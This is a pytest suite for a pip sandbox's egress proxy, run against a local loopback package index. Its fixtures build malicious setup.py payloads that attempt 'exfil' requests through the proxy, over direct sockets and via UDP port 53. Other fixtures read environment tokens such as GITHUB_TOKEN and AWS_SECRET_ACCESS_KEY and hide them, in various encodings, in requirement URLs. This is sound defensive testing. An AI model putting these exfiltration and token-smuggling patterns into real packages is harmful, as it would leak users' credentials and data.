"""The egress proxy (docs/proxy.md), tried for real on loopback.

A PEP 503 index (lib/index.py) runs on the host's 127.0.0.1 and serves
sdists and wheels built by each test.  pip in the jail must reach it through
pipjail's proxy, and nothing else in the jail may reach anything: not a
setup.py through the proxy, not a direct connection, not a datagram.
Everything stays on 127.0.0.0/8; no name is ever resolved.
"""
import base64
import glob
import hashlib
import html
import http.server
import json
import os
import shutil
import socketserver
import subprocess
import threading
import time

import pytest

from lib import envtree, host
from lib.index import IndexServer
from lib.mkwheel import make_wheel
from lib.pj import Result, runuser
from lib.sdist import make_sdist

WHEELS = "/usr/share/python-wheels"


@pytest.fixture(scope="session")
def base_venv(session_dir, test_user):
    return envtree.create_base_venv(os.path.join(session_dir, "base-venv"),
                                    test_user.uid, test_user.gid)


class Net:
    def __init__(self, pj, workdir, base, user):
        self.pj = pj
        self.user = user
        self.dir = workdir
        self.venv = envtree.make_venv(base, os.path.join(workdir, "venv"))
        self.site = os.path.join(self.venv, envtree.SITE)
        self.idx = os.path.join(workdir, "index")
        os.mkdir(self.idx)
        # Build isolation needs setuptools and wheel: from the index too.
        for whl in glob.glob(os.path.join(WHEELS, "*.whl")):
            shutil.copy(whl, self.idx)
        self.trace = os.path.join(workdir, "trace.jsonl")
        self.report = os.path.join(workdir, "report.json")
        self.index = IndexServer(self.idx).start()

    def close(self):
        self.index.stop()

    def own(self):
        envtree.chown_tree(self.dir, self.user.uid, self.user.gid)

    def pip(self, *args, opts=(), cmd="install", timeout=600, **kw):
        self.own()
        for f in (self.trace, self.report):
            if os.path.exists(f):
                os.unlink(f)
        r = self.pj.run(*opts, "--trace", self.trace, "--report", self.report, "--",
                        f"{self.venv}/bin/pip", cmd, "--disable-pip-version-check", *args,
                        timeout=timeout, **kw)
        left = envtree.stage_leftovers(self.venv)
        assert not left, f"stage directories left next to the venv: {left}\n{r}"
        return r

    def install(self, *args, **kw):
        return self.pip("--index-url", self.index.url, *args, **kw)

    def add_wheel_package(self):
        """Install `wheel` (plain pip, from Debian's wheel files: nothing is
        built) so that --no-build-isolation builds need nothing from the
        network: the build's own attempts are then the only traffic."""
        r = runuser(self.user, f"{self.venv}/bin/pip", "install", "--no-cache-dir",
                    "--disable-pip-version-check", "--no-index", "--find-links", WHEELS,
                    "wheel", env={"PYTHONDONTWRITEBYTECODE": "1"})
        assert r.returncode == 0, str(r)

    def proxy_notes(self):
        out = []
        with open(self.trace) as f:
            for line in f:
                rec = json.loads(line)
                if rec.get("type") == "note" and rec.get("kind") == "proxy":
                    out.append(rec)
        return out

    def report_json(self):
        with open(self.report) as f:
            return json.load(f)

    def violations(self, **match):
        return [v for v in self.report_json()["violations"]
                if all(v.get(k) == x for k, x in match.items())]

    def python(self, code):
        return runuser(self.user, f"{self.venv}/bin/python", "-c", code,
                       env={"PYTHONDONTWRITEBYTECODE": "1"})


@pytest.fixture
def net(pj, workdir, base_venv, test_user):
    n = Net(pj, workdir, base_venv, test_user)
    yield n
    n.close()


def assert_clean(net, r):
    assert r.returncode == 0, str(r)
    rep = net.report_json()
    assert rep["verdict"] == "clean" and not rep["violations"], f"{rep['violations']}\n{r}"


# ---------------------------------------------------------------- (1) install through the proxy

def test_install_from_local_index_goes_through_the_proxy(net):
    make_sdist(net.idx, "netdemo", "1.0", {"netdemo/__init__.py": "V = 'from-index'\n"})
    r = net.install("netdemo")
    assert_clean(net, r)
    out = net.python("import netdemo; print(netdemo.V)")
    assert out.stdout.strip() == "from-index", str(out)
    # The index saw pip's requests: the project page, the sdist, and the
    # build requirements that pip's isolated build env fetched.
    paths = net.index.paths()
    assert "/simple/netdemo/" in paths, paths
    assert "/files/netdemo-1.0.tar.gz" in paths, paths
    assert any(p.startswith("/files/setuptools-") for p in paths), paths
    notes = net.proxy_notes()
    assert notes, f"no proxy notes in the trace\n{r}"
    for n in notes:
        assert n["allowed"] and n["outcome"] == "forwarded", n
        assert n["role"] == "pip", n
        assert (n["host"], n["port"]) == ("127.0.0.1", net.index.port), n
        assert "--index-url" in n.get("rule", ""), n
    got = {n.get("path") for n in notes}
    assert "/files/netdemo-1.0.tar.gz" in got, got
    sdist = os.path.join(net.idx, "netdemo-1.0.tar.gz")
    note = next(n for n in notes if n.get("path") == "/files/netdemo-1.0.tar.gz")
    assert note["bytes_down"] >= os.path.getsize(sdist), note


# ---------------------------------------------------------------- (2) the build may not talk

def _payload(kind, port, token):
    if kind == "proxy":
        # What a setup.py sees: HTTP_PROXY set; urllib uses it.
        return ("import urllib.request\n"
                "try:\n"
                f"    urllib.request.urlopen('http://127.0.0.1:{port}/exfil-{token}', timeout=5).read()\n"
                "except Exception as e:\n"
                "    print('proxy attempt:', e)\n")
    if kind == "direct":
        return ("import socket\n"
                "try:\n"
                f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=5)\n"
                f"    s.sendall(b'GET /exfil-{token} HTTP/1.0\\r\\n\\r\\n')\n"
                "except Exception as e:\n"
                "    print('direct attempt:', e)\n")
    if kind == "udp53":
        return ("import socket\n"
                "try:\n"
                "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                f"    s.sendto(b'exfil-{token}', ('127.0.0.1', 53))\n"
                "except Exception as e:\n"
                "    print('udp attempt:', e)\n")
    raise ValueError(kind)


def _net_setup_py(name, kinds, port, token):
    body = "".join(_payload(k, port, token) for k in kinds)
    return (body + "from setuptools import setup\n"
            f"setup(name={name!r}, version='1.0', packages=[{name!r}])\n")


RULES = {"proxy": ("proxy",), "direct": ("network",), "udp53": ("network",)}


@pytest.mark.parametrize("kind", ["proxy", "direct", "udp53"])
def test_build_network_attempt_is_caught_and_install_fails(net, kind):
    token = os.urandom(6).hex()
    make_sdist(net.idx, "netevil", "1.0", {
        "netevil/__init__.py": "",
        "setup.py": _net_setup_py("netevil", [kind], net.index.port, token)})
    net.add_wheel_package()
    before = envtree.snapshot(net.venv)
    r = net.install("--no-build-isolation", "netevil")
    assert r.returncode == 101, str(r)
    assert envtree.snapshot(net.venv) == before, "the environment changed"
    assert not any(token in p for p in net.index.paths()), net.index.paths()
    found = [v for v in net.report_json()["violations"] if v["rule"] in RULES[kind]]
    assert found, f"{kind} attempt not reported: {net.report_json()['violations']}\n{r}"
    assert found[0]["package"] == "netevil", found[0]
    assert found[0]["role"] in ("build", "tool"), found[0]
    if kind == "proxy":
        refused = [n for n in net.proxy_notes() if not n["allowed"]]
        assert refused and refused[0]["outcome"] == "refused-role", net.proxy_notes()
        assert refused[0]["role"] in ("build", "tool"), refused[0]
    if kind == "udp53":
        assert "53" in found[0]["evidence"], found[0]


def test_build_network_attempts_each_reported_in_audit_mode(net):
    token = os.urandom(6).hex()
    make_sdist(net.idx, "netevil", "1.0", {
        "netevil/__init__.py": "",
        "setup.py": _net_setup_py("netevil", ["proxy", "direct", "udp53"], net.index.port, token)})
    net.add_wheel_package()
    before = envtree.snapshot(net.venv)
    r = net.install("--no-build-isolation", "netevil", opts=("--audit",))
    assert r.returncode == 100, str(r)
    assert envtree.snapshot(net.venv) == before, "the environment changed"
    assert not any(token in p for p in net.index.paths()), net.index.paths()
    vs = [v for v in net.report_json()["violations"] if v["package"] == "netevil"]
    proxy = [v for v in vs if v["rule"] == "proxy"]
    direct = [v for v in vs if v["rule"] == "network" and str(net.index.port) in v["evidence"]]
    udp = [v for v in vs if v["rule"] == "network" and ":53" in v["evidence"]]
    assert proxy and direct and udp, f"proxy {proxy}\ndirect {direct}\nudp {udp}\nall {vs}\n{r}"


def test_benign_twin_of_netevil_installs(net):
    make_sdist(net.idx, "netevil", "1.0", {"netevil/__init__.py": "OK = 1\n"})
    net.add_wheel_package()
    r = net.install("--no-build-isolation", "netevil")
    assert_clean(net, r)


# ---------------------------------------------------------------- (3) pip asked to go elsewhere

class _PageServer:
    """An index whose project pages link to files on another server."""

    def __init__(self, links):
        class H(http.server.BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def do_GET(self):
                name = self.path.strip("/").split("/")[-1]
                body = "".join(f'<a href="{html.escape(u)}">{html.escape(u.rsplit("/", 1)[-1])}</a>\n'
                               for u in links.get(name, []))
                data = f"<!DOCTYPE html><html><body>\n{body}</body></html>\n".encode()
                self.send_response(200 if name in links else 404)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
            daemon_threads = True

        self.server = S(("127.0.0.1", 0), H)
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}/simple/"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


def _sha(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def test_pip_sent_to_a_host_outside_the_allowlist_is_refused(net):
    # --index-url allows only the page server; its page sends pip to the file
    # server (lib/index.py) on another port, which nothing configured allows.
    whl = make_wheel(net.idx, "elsewhere", "1.0", {"elsewhere/__init__.py": "E = 1\n"})
    file_url = f"{net.index.root}/files/{os.path.basename(whl)}#sha256={_sha(whl)}"
    pages = _PageServer({"elsewhere": [file_url]})
    try:
        before = envtree.snapshot(net.venv)
        r = net.pip("--index-url", pages.url, "elsewhere")
        assert r.returncode != 0, str(r)
        assert envtree.snapshot(net.venv) == before
        assert f"/files/{os.path.basename(whl)}" not in net.index.paths()
        refused = [n for n in net.proxy_notes() if not n["allowed"]]
        assert refused, f"no refusal in the trace: {net.proxy_notes()}\n{r}"
        n = refused[0]
        assert n["outcome"] == "refused-host" and n["role"] == "pip", n
        assert n["port"] == net.index.port, n
        hint = f"--allow-host 127.0.0.1:{net.index.port}"
        assert hint in n.get("hint", "") + n.get("reason", ""), n
        v = net.violations(rule="proxy")
        assert v, f"not in the report: {net.report_json()['violations']}\n{r}"
        assert hint in r.stderr, f"stderr does not say how to allow it\n{r}"

        # Benign twin: the user allows the file host; the same install works.
        r = net.pip("--index-url", pages.url, "elsewhere",
                    opts=("--allow-host", f"127.0.0.1:{net.index.port}"))
        assert_clean(net, r)
        assert f"/files/{os.path.basename(whl)}" in net.index.paths()
    finally:
        pages.stop()


# ---------------------------------------------------------------- (3b) pip carries a token

# How a setup.py hides a decoy token in the URL of a requirement on the
# allowed index, which pip then fetches through the proxy (issue 14, item
# 6; tests/attacks/env_token_requires_dist is the same in one package):
# (decoy, Python expression of the URL part built from t, the token;
#  encodings the report may name; where in the request it is).  pip's HTTP
# library (requests) turns escapes of unreserved characters back into the
# characters before sending, so the percent-encoded tokens (letters, digits,
# '_', '-') arrive as is: tests/unit/decide/test_decoyscan.c holds the
# matcher to every URL encoding.
TOKEN_URLS = {
    "plain": ("$GITHUB_TOKEN", "'?v=' + t", ("as is",), "request line"),
    "path": ("$GITHUB_TOKEN", "'?x=1'", ("as is",), "request line"),
    "pct-every-byte": ("$NPM_TOKEN", "'?v=' + ''.join('%%%02X' % b for b in t.encode())",
                       ("as is", "URL-encoded"), "request line"),
    "pct-some-bytes-lower": ("$PYPI_TOKEN",
                             "'?v=' + ''.join('%%%02x' % ord(c) if i % 3 == 1 else c "
                             "for i, c in enumerate(t))", ("as is", "URL-encoded"), "request line"),
    "base64": ("$AWS_SECRET_ACCESS_KEY",
               "'?v=' + base64.b64encode(b'x' + t.encode()).decode()",
               ("base64", "URL-encoded", "base64, URL-encoded"), "request line"),
    "base64url": ("$GITLAB_TOKEN",
                  "'?v=' + base64.urlsafe_b64encode(b'ab' + t.encode()).decode().rstrip('=')",
                  ("base64", "base64url"), "request line"),
    "hex-upper": ("$PYPI_TOKEN", "'?v=' + t.encode().hex().upper()", ("hex",), "request line"),
    "userinfo": ("$GITHUB_TOKEN", "''", ("base64", "base64url"), "Authorization header field"),
}


def _token_forms(token):
    t = token.encode()
    return [t, t.hex().encode(), t.hex().upper().encode(),
            "".join(f"%{b:02X}" for b in t).encode(),
            base64.b64encode(t).rstrip(b"=")[4:-4], base64.urlsafe_b64encode(t).rstrip(b"=")[4:-4]]


def _decoys(trace):
    with open(trace) as f:
        head = json.loads(f.readline())
    return {d["where"]: d["token"] for d in head.get("decoys", []) if d.get("token")}


@pytest.mark.parametrize("enc", sorted(TOKEN_URLS))
def test_pip_request_carrying_a_decoy_token_is_refused(net, enc):
    where, expr, hows, part = TOKEN_URLS[enc]
    whl = make_wheel(net.idx, "tokdep", "1.0", {"tokdep/__init__.py": "D = 1\n"})
    name = os.path.basename(whl)
    root = f"127.0.0.1:{net.index.port}"
    if enc == "path":
        url = f"'http://{root}/files/' + t + '/{name}' + {expr}"
    elif enc == "userinfo":
        url = f"'http://deploy:' + t + '@{root}/files/{name}'"
    else:
        url = f"'http://{root}/files/{name}' + {expr}"
    setup = ("import base64, os\n"
             "from setuptools import setup\n"
             f"t = os.environ[{where[1:]!r}]\n"
             f"setup(name='tokleak', version='1.0', packages=['tokleak'],\n"
             f"      install_requires=['tokdep @ ' + {url}])\n")
    make_sdist(net.idx, "tokleak", "1.0", {"tokleak/__init__.py": "", "setup.py": setup})
    net.add_wheel_package()
    before = envtree.snapshot(net.venv)
    r = net.install("--no-build-isolation", "tokleak")
    assert r.returncode == 100, str(r)
    assert envtree.snapshot(net.venv) == before, "the environment changed"
    # Nothing with the token reached the index.
    token = _decoys(net.trace)[where]
    for raw in net.index.raw_requests():
        for form in _token_forms(token):
            assert form not in raw, f"{form!r} reached the index: {raw[:300]!r}"
    assert not any(p.startswith(f"/files/{name}") for p in net.index.paths()), net.index.paths()
    # The proxy refused it and said why; the report holds it as proxy-token,
    # refused, attributed to the package whose metadata named the URL.
    notes = [n for n in net.proxy_notes() if n["outcome"] == "refused-token"]
    assert len(notes) == 1, f"{net.proxy_notes()}\n{r}"
    assert notes[0]["role"] == "pip" and notes[0]["status"] == 403, notes[0]
    found = net.violations(rule="proxy-token")
    assert len(found) == 1, f"{net.report_json()['violations']}\n{r}"
    v = found[0]
    assert v["kind"] == "network" and v["action"] == "refused", v
    assert v["role"] == "pip" and v["package"] == "tokleak", v
    assert f"the decoy {where} (" in v["detail"], v
    how = v["detail"].split(f"the decoy {where} (", 1)[1].split(")", 1)[0]
    assert how in hows, f"encoding named {how!r}, expected one of {hows}: {v}"
    assert f"in its {part}" in v["detail"], v
    assert "403" in r.stdout + r.stderr, str(r)


def test_token_request_after_several_builds_stays_pips(net):
    """With two distributions built before the refused request, the engine
    cannot tell whose metadata named the URL: the violation is pip's and
    its detail names both builds."""
    whl = make_wheel(net.idx, "tokdep", "1.0", {"tokdep/__init__.py": "D = 1\n"})
    url = f"http://127.0.0.1:{net.index.port}/files/{os.path.basename(whl)}?v="
    setup = ("import os\n"
             "from setuptools import setup\n"
             "setup(name='tokleak', version='1.0', packages=['tokleak'],\n"
             f"      install_requires=['tokdep @ {url}' + os.environ['GITHUB_TOKEN']])\n")
    make_sdist(net.idx, "tokleak", "1.0", {"tokleak/__init__.py": "", "setup.py": setup})
    make_sdist(net.idx, "tokother", "1.0", {"tokother/__init__.py": ""})
    net.add_wheel_package()
    r = net.install("--no-build-isolation", "tokother", "tokleak")
    assert r.returncode == 100, str(r)
    found = net.violations(rule="proxy-token")
    assert len(found) == 1, f"{net.report_json()['violations']}\n{r}"
    v = found[0]
    assert v["role"] == "pip" and v["package"] is None, v
    assert "tokleak 1.0" in v["detail"] and "tokother 1.0" in v["detail"], v
    assert not any(p.startswith(f"/files/{os.path.basename(whl)}") for p in net.index.paths())


def test_pip_request_with_a_token_lookalike_is_forwarded(net):
    """Twin: the same requirement with a random value of the same shape
    (not this run's token) in every encoding: forwarded, clean."""
    whl = make_wheel(net.idx, "tokdep", "1.0", {"tokdep/__init__.py": "D = 1\n"})
    url = f"http://127.0.0.1:{net.index.port}/files/{os.path.basename(whl)}"
    setup = ("import base64, os\n"
             "from setuptools import setup\n"
             "t = 'ghp_' + os.urandom(18).hex()\n"
             "q = '?a=' + t + '&b=' + ''.join('%%%02X' % b for b in t.encode()) + '&c=' + "
             "base64.b64encode(t.encode()).decode() + '&d=' + t.encode().hex()\n"
             "setup(name='toklike', version='1.0', packages=['toklike'],\n"
             f"      install_requires=['tokdep @ {url}' + q])\n")
    make_sdist(net.idx, "toklike", "1.0", {"toklike/__init__.py": "", "setup.py": setup})
    net.add_wheel_package()
    r = net.install("--no-build-isolation", "toklike")
    assert_clean(net, r)
    assert any(p.startswith(f"/files/{os.path.basename(whl)}") for p in net.index.paths())
    assert "tokdep" in os.listdir(net.site)


@pytest.mark.parametrize("bad", ["foo*.org", "127.0.0.1:notaport", ""])
def test_bad_allow_host_gives_one_clear_error(net, bad):
    r = net.pj.run("--allow-host", bad, "--", f"{net.venv}/bin/pip", "install",
                   "--index-url", net.index.url, "x")
    assert r.returncode == 125, str(r)
    lines = [l for l in r.stderr.splitlines() if l.strip()]
    assert len(lines) == 1 and "--allow-host" in lines[0], str(r)


def test_unusable_index_url_gives_one_clear_error(net):
    r = net.pj.run("--", f"{net.venv}/bin/pip", "install", "--index-url", "htp:/oops", "x")
    assert r.returncode == 125, str(r)
    lines = [l for l in r.stderr.splitlines() if l.strip()]
    assert len(lines) == 1 and "htp:/oops" in lines[0], str(r)


# ---------------------------------------------------------------- (4) large download

def _hwm_kib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def _download_peak(net, name, dest):
    """Run `pipjail pip download` of name into dest; return (Result, peak RSS KiB
    of the supervisor) -- polled from /proc until it exits."""
    net.own()
    snap = host.Snapshot(net.user.uid)
    argv = [net.pj.binary, "--rw", dest, "--trace", net.trace, "--", f"{net.venv}/bin/pip",
            "download", "--disable-pip-version-check", "--no-deps", "--index-url",
            net.index.url, "-d", dest, name]
    t0 = time.monotonic()
    p = subprocess.Popen(argv, env=net.pj.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                         text=True, cwd="/")
    peak = 0
    out_chunks = []

    def reader():
        out_chunks.append(p.communicate(timeout=600))
    t = threading.Thread(target=reader)
    t.start()
    while p.poll() is None:
        v = _hwm_kib(p.pid)
        if v:
            peak = max(peak, v)
        time.sleep(0.01)
    t.join()
    out, err = out_chunks[0]
    res = Result(argv, p.returncode, out, err, time.monotonic() - t0, p.pid)
    net.pj.check_run(res, snap)
    return res, peak


def test_50mb_wheel_downloads_with_flat_supervisor_memory(net):
    small = make_wheel(net.idx, "smallpkg", "1.0",
                       {"smallpkg/__init__.py": "", "smallpkg/blob.bin": os.urandom(1 << 20)},
                       stored=True)
    big = make_wheel(net.idx, "bigpkg", "1.0",
                     {"bigpkg/__init__.py": "", "bigpkg/blob.bin": os.urandom(50 << 20)},
                     stored=True)
    assert os.path.getsize(big) > 50 << 20
    peaks = {}
    for name, whl in (("smallpkg", small), ("bigpkg", big)):
        dest = os.path.join(net.dir, "dl-" + name)
        os.mkdir(dest)
        r, peaks[name] = _download_peak(net, name, dest)
        assert r.returncode == 0, str(r)
        got = os.path.join(dest, os.path.basename(whl))
        assert os.path.exists(got) and _sha(got) == _sha(whl), str(r)
        note = [n for n in net.proxy_notes() if n.get("path", "").endswith(os.path.basename(whl))]
        assert note and note[0]["bytes_down"] >= os.path.getsize(whl), note
    growth = peaks["bigpkg"] - peaks["smallpkg"]
    assert peaks["smallpkg"] > 0 and peaks["bigpkg"] > 0, peaks
    assert growth < 16 * 1024, f"supervisor peak RSS grew by {growth} KiB for 49 MB more: {peaks}"


# ---------------------------------------------------------------- (5) --net none

def test_net_none_installs_from_find_links_offline(net):
    dist = os.path.join(net.dir, "dist")
    os.mkdir(dist)
    make_sdist(dist, "offline", "1.0", {"offline/__init__.py": "V = 'offline'\n"})
    r = net.pip("--no-index", "--find-links", WHEELS, "--find-links", dist, "offline",
                opts=("--net", "none"))
    assert_clean(net, r)
    out = net.python("import offline; print(offline.V)")
    assert out.stdout.strip() == "offline", str(out)
    assert net.proxy_notes() == [], "--net none must not run a proxy"


def test_net_none_cannot_reach_the_index(net):
    make_sdist(net.idx, "netdemo", "1.0", {"netdemo/__init__.py": ""})
    before = envtree.snapshot(net.venv)
    r = net.install("--retries", "0", "--timeout", "5", "netdemo", opts=("--net", "none"),
                    timeout=300)
    # With --net none every connect is reported, pip's own included (the
    # user asked for no network; pipjail says who still tried): exit 100,
    # rule "network", the call failed.  pip itself fails to install.
    assert r.returncode == 100, str(r)
    assert "network" in r.stderr and "the call failed" in r.stderr, str(r)
    assert "No matching distribution" in r.stdout + r.stderr, str(r)
    assert net.index.paths() == [], net.index.paths()
    assert envtree.snapshot(net.venv) == before
    assert "netdemo" not in os.listdir(net.site)
